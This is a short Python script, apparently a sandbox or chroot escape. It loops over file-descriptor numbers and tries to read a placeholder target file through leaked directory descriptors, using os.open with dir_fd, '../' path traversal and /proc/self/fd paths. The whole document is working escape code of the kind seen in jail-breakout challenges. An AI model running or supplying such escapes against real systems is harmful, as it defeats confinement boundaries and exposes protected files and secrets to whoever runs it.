"""Leaves through any folder that is open as a file descriptor."""

import os

for number in range(256):
    for name in ("@HIDDEN@", "../" * 12 + "@HIDDEN@"[1:]):
        try:
            print(os.read(os.open(name.lstrip("/"), os.O_RDONLY, dir_fd=number), 9999))
        except OSError:
            pass
        try:
            print(open(f"/proc/self/fd/{number}/" + name).read())
        except OSError:
            pass
